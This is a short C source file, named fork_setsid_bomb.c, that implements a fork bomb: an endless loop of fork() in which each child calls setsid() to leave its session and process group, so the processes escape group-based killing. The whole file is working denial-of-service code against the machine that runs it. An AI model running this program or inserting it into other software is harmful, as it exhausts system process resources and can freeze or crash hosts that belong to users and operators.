/* fork_setsid_bomb.c -- each process of the bomb leaves session and process group behind. */
#include "won.h"
int main(void)
{
    for (;;)
        if (fork() == 0)
            setsid();
}
